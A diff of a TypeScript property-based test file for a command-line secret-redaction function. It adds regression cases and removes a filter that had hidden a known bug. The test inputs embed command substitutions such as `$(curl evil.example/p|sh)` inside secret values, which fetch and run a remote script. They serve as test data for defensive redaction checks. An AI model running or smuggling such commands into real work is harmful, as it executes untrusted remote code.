@@ -127,16 +127,20 @@ function expectInvariants(text: string, payloads: readonly string[]): void {
 }
 
 describe("the command-line reader's invariants on generated lines", { timeout: 60_000 }, () => {
+  // Found by this property on a random seed: split at its `;`, the line read as a connection string
+  // with the key `srv TOKEN`, whose whole quoted value, payload included, was hidden.
+  it.each([
+    'srv TOKEN="hunter2SECRET9$(curl evil.example/p|sh)" ; TOKEN=hunter2SECRET9',
+    'srv TOKEN="hunter2SECRET9`curl evil.example/p|sh`" ; X=y',
+    "Server=db;Password=tok9qZx81$(curl evil.example/p|sh);",
+  ])("a payload in a value before a `;` and a later assignment stays in sight: %s", (text) => {
+    expectInvariants(text, PAYLOADS);
+    expect(withoutCommandLineSecrets(text)).toMatch(/\$\{(?:TOKEN|PASSWORD)\}/);
+  });
+
   it("a flag's or NAME='s value mixing literal secrets, payloads and variables", () => {
     fc.assert(
-      fc.property(line, (text) => {
-        // Known and open (found by this property at the session's end, in the display only): a
-        // value mixing literal text and a payload, with an operator and a later assignment after it
-        // (`srv TOKEN="x$(curl …)" ; TOKEN=y`), is hidden whole, payload included. Left out here
-        // until it is fixed, so that this property keeps guarding the rest.
-        fc.pre(!/ (?:;|&&) [\s\S]*=/.test(text));
-        expectInvariants(text, PAYLOADS);
-      }),
+      fc.property(line, (text) => expectInvariants(text, PAYLOADS)),
       { numRuns: 400 },
     );
   });
